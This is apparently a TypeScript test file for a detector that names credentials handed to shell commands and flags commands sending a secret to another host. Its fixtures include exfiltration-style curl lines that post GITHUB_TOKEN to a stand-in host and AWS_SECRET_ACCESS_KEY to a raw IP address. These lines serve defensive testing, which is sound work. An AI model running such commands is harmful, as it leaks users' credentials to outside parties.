import assert from 'node:assert/strict';
import { it } from 'node:test';
import { handedSecrets, sendsSecret } from './handed-secrets.ts';
import { sendsData } from './shell-script.ts';

it('names the credentials a command hands to what it runs, by source or by name', () => {
  assert.deepEqual(handedSecrets('GITHUB_TOKEN=$(gh auth token) ./scripts/setup.sh'), [{ name: 'GITHUB_TOKEN', source: 'gh auth token' }]);
  assert.deepEqual(handedSecrets('export NPM_TOKEN=<your token>\nDEBUG=1 NODE_ENV=development ./run.sh'), [{ name: 'NPM_TOKEN' }]);
  assert.deepEqual(handedSecrets('KEY=`security find-generic-password -w -s api` make deploy'), [
    { name: 'KEY', source: 'security find-generic-password -w -s api' },
  ]);
  assert.deepEqual(handedSecrets('PORT=3000 LOG_LEVEL=debug ./start.sh'), []);
});

it('a send to another host is theft; the own service or a host in a variable is its use', () => {
  const lines = (t: string): { line: number; text: string }[] => t.split('\n').map((text, i) => ({ line: i + 1, text }));
  assert.equal(sendsSecret(lines('echo hi\ncurl -d "t=$GITHUB_TOKEN" https://c.example.invalid/x'), 'GITHUB_TOKEN', sendsData)?.line, 2);
  assert.equal(
    sendsSecret(lines('curl -X POST -H "Authorization: Bearer $GH_TOKEN" -d {} https://api.github.com/x'), 'GH_TOKEN', sendsData),
    undefined,
  );
  assert.equal(sendsSecret(lines('curl -X POST -d "$NPM_TOKEN" "$REGISTRY/-/whoami"'), 'NPM_TOKEN', sendsData), undefined);
  assert.equal(
    sendsSecret(lines('curl -d "k=${AWS_SECRET_ACCESS_KEY}" http://203.0.113.4:81/'), 'AWS_SECRET_ACCESS_KEY', sendsData)?.line,
    1,
  );
});
